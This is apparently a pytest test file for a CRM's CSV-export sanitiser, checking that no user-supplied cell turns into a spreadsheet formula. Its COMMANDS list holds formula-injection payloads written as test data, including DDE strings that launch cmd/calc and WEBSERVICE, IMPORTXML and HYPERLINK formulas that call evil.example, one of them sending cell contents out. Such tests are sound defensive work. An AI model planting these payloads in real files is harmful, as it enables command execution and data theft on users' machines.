"""No cell that a stranger wrote becomes a formula, whatever the reader's list separator (H:E1, I7)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm.lib.csvsafe import BOM, cell, lines, plain

SIGNS = "=+-@＝＋－＠|%"
COMMANDS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1", "+355691234567", "+39 333 111222", "=", "+", "-",
    "@", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1", "﹣1",
    "﹢1", "﹦1", "﹫x", "\t=1", "\r=1", "\n=1", "\0=1", " =1",
    "  \t =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "\u2003=1", "\u3000=1", "\v=1", "\f=1", "\x1f=1", "\x1b=1", "\tx", "\rx", "\nx", "\0x",
    "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a; =1", "a;;=1", "Rossi\n\n@x", "\";=1+1;\"", "\"\n=1\n\"",
    "a;\u200b=1",
    "'=1", "''=1", "=\ud800", "a;\0=1", "|cmd", "%0A=1",
]  # fmt: skip
HARMLESS = [
    "Mario Rossi",
    "O'Brien",
    "mario@example.it",
    "a-b",
    "1 + 1",
    "50%",
    "",
    "a, b",
    "Šehrija Đ",
    "李雷",
    "«x»",
]
BLANK = " \t\r\n\v\f\0\u00a0\u200b\u2003\u3000\ufeff" + "".join(map(chr, range(32)))


def test_there_are_sixty_of_them():
    assert len(set(COMMANDS)) >= 60


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", COMMANDS, ids=ascii)
def test_no_separator_makes_it_a_formula(text, separator):
    for found in cells_of(written(text), separator):
        assert not found.strip(BLANK).startswith(tuple(SIGNS)), found


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text):
    assert cell(text) == text


def test_a_telephone_number_stays_text():
    assert cell("+355691234567") == "'+355691234567"


def test_numbers_stay_numbers_and_nothing_is_empty():
    assert [cell(5), cell(-5), cell(1.5), cell(None), cell(True)] == ["5", "-5", "1.5", "", "True"]


def test_commas_quotes_and_lines_come_back_as_they_were():
    text = 'a "quoted", and\na second line'

    assert list(csv.reader(io.StringIO(written(text), newline=""))) == [["x", text, "y"]]


def test_it_streams_a_line_at_a_time():
    endless = lines([n, n] for n in iter(int, 1))

    assert next(endless) == BOM
    assert next(endless) == "0,0\r\n"


@given(st.text(), st.sampled_from([",", ";", "\t"]))
def test_no_text_at_all_becomes_a_formula(text, separator):
    for found in cells_of(written(text), separator):
        assert not found.strip(BLANK).startswith(tuple(SIGNS))


@given(st.text(st.one_of(st.characters(codec="utf-8", exclude_characters="\0"), st.sampled_from("'=+;\t\r\n @"))))
def test_what_was_guarded_comes_back_as_it_was(text):
    assert plain(cell(text)) == text


@pytest.mark.parametrize("text", ["'=1", "''=1", "a;'=1", "a;''+1", "\n=1", "'\n=1", " ;\t =1", "'O'Brien", "'"])
def test_nobody_elses_apostrophe_is_taken_for_ours(text):
    assert plain(cell(text)) == text


def written(text):
    return "".join(lines([["x", text, "y"]], bom=False))


def cells_of(text, separator):
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [found for row in rows for found in row]
